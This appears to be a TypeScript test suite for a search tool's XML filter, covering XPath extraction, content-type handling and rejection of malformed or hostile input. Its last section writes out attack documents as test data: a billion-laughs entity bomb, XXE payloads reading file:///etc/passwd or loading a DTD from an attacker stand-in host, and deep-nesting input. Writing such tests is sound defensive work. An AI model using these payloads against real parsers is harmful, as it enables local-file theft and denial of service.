import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { MAX_XML_DEPTH } from '../../src/collection/filters/xml-filter.js';
import type { XmlConfigLike } from '../../src/collection/filters/xml-config-like.js';
import { expectSearchError, runFilters } from './run-filter.js';

const config = (xpaths: string[], docUrlXpath?: string): XmlConfigLike => ({
  mappings: xpaths.map((xpath, i) => ({ className: `c${i}`, type: 0, xpath })),
  ...(docUrlXpath === undefined ? {} : { docUrlXpath }),
});
const xml = (s: string, xmlConfig?: XmlConfigLike, contentType = 'application/xml') =>
  runFilters(s, contentType, xmlConfig === undefined ? {} : { xmlConfig });

const RECORD = `<?xml version="1.0" encoding="UTF-8"?>
<record id="r-17" xml:lang="en-GB">
  <url>http://example.com/records/17</url>
  <title>Annual   report</title>
  <authors><author role="lead">Ada</author><author>Grace</author></authors>
  <body><p>First <b>para</b>graph.</p><p>Second.</p></body>
  <meta><dc:subject>finance</dc:subject></meta>
  <Title>case differs</Title>
</record>`;

describe('XML filter: xml.cfg xpaths', () => {
  it('extracts absolute, anywhere and attribute paths, keyed by the xpath as written', () => {
    const doc = xml(
      RECORD,
      config([
        '/record/title',
        '//author',
        '/record/@id',
        '//author/@role',
        '/record/body',
        '//meta/dc:subject',
        '/record/missing',
      ]),
    );
    assert.deepEqual(doc.metadata, {
      '/record/title': ['Annual report'],
      '//author': ['Ada', 'Grace'],
      '/record/@id': ['r-17'],
      '//author/@role': ['lead'],
      '/record/body': ['First paragraph. Second.'],
      '//meta/dc:subject': ['finance'],
    });
  });

  it('does not split words of mixed content (an element inside text is inline)', () => {
    const doc = xml(
      '<?xml version="1.0"?><doc><p>Para<b>graph</b>s and <i>more</i>.</p><p><em>Next</em>one</p></doc>',
      config(['//p']),
    );
    assert.equal(doc.text, 'Paragraphs and more. Nextone');
    assert.deepEqual(doc.metadata, { '//p': ['Paragraphs and more.', 'Nextone'] });
  });

  it('matches names case-sensitively', () => {
    assert.deepEqual(xml(RECORD, config(['/record/Title'])).metadata, { '/record/Title': ['case differs'] });
  });

  it('distinguishes /a/b (child of the root) from //b (anywhere) and /a//b (any depth below /a)', () => {
    const doc = xml(
      '<?xml version="1.0"?><a><b>1</b><c><b>2</b><d><b>3</b></d></c></a>',
      config(['/a/b', '//b', '/a//b', '/a/c/b', '//c//b', '/b']),
    );
    assert.deepEqual(doc.metadata, {
      '/a/b': ['1'],
      '//b': ['1', '2', '3'],
      '/a//b': ['1', '2', '3'],
      '/a/c/b': ['2'],
      '//c//b': ['2', '3'],
    });
  });

  it("accepts the original's /a@id spelling and a text() last step", () => {
    const doc = xml('<?xml version="1.0"?><a id="x"><b>t</b></a>', config(['/a@id', '/a/b/text()']));
    assert.deepEqual(doc.metadata, { '/a@id': ['x'], '/a/b/text()': ['t'] });
  });

  it('refuses an xpath it cannot evaluate, naming it', () => {
    const err = expectSearchError(() => xml(RECORD, config(['/record/author[1]'])), 'FILTER_FAILED');
    assert.match(err.message, /\/record\/author\[1\]/);
  });

  it('takes docUrl from the docurl xpath (not stored as metadata), the title from class t, the language from xml:lang', () => {
    const doc = xml(RECORD, {
      mappings: [{ className: 't', type: 1, xpath: '/record/title' }],
      docUrlXpath: '/record/url',
    });
    assert.equal(doc.docUrl, 'http://example.com/records/17');
    assert.equal(doc.title, 'Annual report');
    assert.equal(doc.language, 'en-GB');
    assert.deepEqual(Object.keys(doc.metadata), ['/record/title']);
  });

  it('makes all text content the text, elements separating words, CDATA included', () => {
    const doc = xml(
      '<?xml version="1.0"?><a><b>one</b><b>two</b><c><![CDATA[<three> & four]]></c><d>five &amp; six</d></a>',
    );
    assert.equal(doc.text, 'one two <three> & four five & six');
    assert.equal(doc.title, undefined);
    assert.deepEqual(doc.links, []);
  });
});

describe('XML filter: the declaration rule', () => {
  it('Auto treats an XML type without the declaration as plain text', () => {
    const doc = xml('<record><title>T</title></record>', config(['/record/title']));
    assert.equal(doc.text, '<record><title>T</title></record>');
    assert.deepEqual(doc.metadata, {});
  });

  it('Auto treats a declaration under a non-XML type as plain text', () => {
    const doc = xml('<?xml version="1.0"?><a>x</a>', config(['/a']), 'text/plain');
    assert.equal(doc.text, '<?xml version="1.0"?><a>x</a>');
  });

  it('accepts a BOM and whitespace before the declaration', () => {
    const doc = xml('\uFEFF \n\t<?xml version="1.0"?><a>x</a>', config(['/a']), 'text/xml');
    assert.deepEqual(doc.metadata, { '/a': ['x'] });
  });

  it('applies to every XML type: application/xml, text/xml, *+xml', () => {
    for (const type of [
      'application/xml',
      'text/xml',
      'application/rss+xml',
      'APPLICATION/XML; charset=utf-8',
    ]) {
      assert.deepEqual(
        xml('<?xml version="1.0"?><a>x</a>', config(['/a']), type).metadata,
        { '/a': ['x'] },
        type,
      );
    }
  });

  it('an explicit Xml filter without the declaration fails, saying the declaration is required', () => {
    const err = expectSearchError(
      () => runFilters('<a>x</a>', 'application/xml', { chain: 'Xml' }),
      'FILTER_FAILED',
    );
    assert.match(err.message, /Xml filter/);
    assert.match(err.message, /XML declaration/);
  });

  it('an explicit Xml filter reads XML pushed under another type', () => {
    const doc = runFilters('<?xml version="1.0"?><a>x</a>', 'application/octet-stream', {
      chain: 'Xml',
      xmlConfig: config(['/a']),
    });
    assert.deepEqual(doc.metadata, { '/a': ['x'] });
  });
});

describe('XML filter: malformed and hostile documents', () => {
  it('reports malformed XML with line and column', () => {
    const err = expectSearchError(
      () => xml('<?xml version="1.0"?>\n<a>\n  <b>text</c>\n</a>'),
      'FILTER_FAILED',
    );
    assert.match(err.message, /^Xml filter/);
    assert.match(err.message, /line 3, column \d+/);
    assert.equal(err.details?.line, 3);
  });

  it('counts lines from the start of the pushed document, also after leading whitespace', () => {
    const err = expectSearchError(
      () => xml('\n\n<?xml version="1.0"?>\n<a>&undefined;</a>'),
      'FILTER_FAILED',
    );
    assert.equal(err.details?.line, 4);
    assert.match(err.message, /undefined entity/);
  });

  it('refuses the billion laughs document without expanding anything', () => {
    const lol = ['<!ENTITY lol0 "lol">'];
    for (let i = 1; i <= 9; i++) lol.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
    const doc = `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n ${lol.join('\n ')}\n]>\n<lolz>&lol9;</lolz>`;
    const err = expectSearchError(() => xml(doc, config(['/lolz'])), 'FILTER_FAILED');
    assert.match(err.message, /ENTITY/);
    assert.match(err.message, /billion laughs/);
  });

  it('refuses external entities (XXE), general and parameter ones', () => {
    for (const doctype of [
      '<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>',
      '<!DOCTYPE foo [ <!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote; ]>',
    ]) {
      const err = expectSearchError(
        () => xml(`<?xml version="1.0"?>\n${doctype}\n<foo>&xxe;</foo>`, config(['/foo'])),
        'FILTER_FAILED',
      );
      assert.match(err.message, /XXE/);
    }
  });

  it('never reads an external DTD: its entities stay undefined', () => {
    const doc = xml(
      '<?xml version="1.0"?>\n<!DOCTYPE foo SYSTEM "file:///etc/passwd">\n<foo>plain</foo>',
      config(['/foo']),
    );
    assert.equal(doc.text, 'plain');
    expectSearchError(
      () => xml('<?xml version="1.0"?>\n<!DOCTYPE foo SYSTEM "file:///etc/passwd">\n<foo>&passwd;</foo>'),
      'FILTER_FAILED',
    );
  });

  it(`refuses elements nested deeper than ${MAX_XML_DEPTH} levels`, () => {
    const deep = (n: number) => `<?xml version="1.0"?>${'<a>'.repeat(n)}x${'</a>'.repeat(n)}`;
    assert.equal(xml(deep(MAX_XML_DEPTH)).text, 'x');
    const err = expectSearchError(() => xml(deep(MAX_XML_DEPTH + 1)), 'FILTER_FAILED');
    assert.match(err.message, /nested deeper/);
  });

  it('keeps the extracted metadata linear in the document size when matches nest', () => {
    // //a matches every level: the values overlap, so their total length is quadratic in the
    // depth; past the budget (the document's length plus 1,000,000 characters) values are dropped.
    const depth = 1000;
    const source = `<?xml version="1.0"?>${'<a>'.repeat(depth)}${'y'.repeat(5000)}${'</a>'.repeat(depth)}`;
    const values = xml(source, config(['//a'])).metadata['//a'];
    const total = values.reduce((sum, v) => sum + v.length, 0);
    assert.ok(values.length > 0 && values.length < depth, `${values.length} values`);
    assert.ok(total <= source.length + 1_000_000, `${total} characters`);
  });

  it('rejects a second root element and text after the root', () => {
    expectSearchError(() => xml('<?xml version="1.0"?><a/><b/>'), 'FILTER_FAILED');
    expectSearchError(() => xml('<?xml version="1.0"?><a/>trailing'), 'FILTER_FAILED');
    expectSearchError(() => xml('<?xml version="1.0"?>'), 'FILTER_FAILED');
  });
});
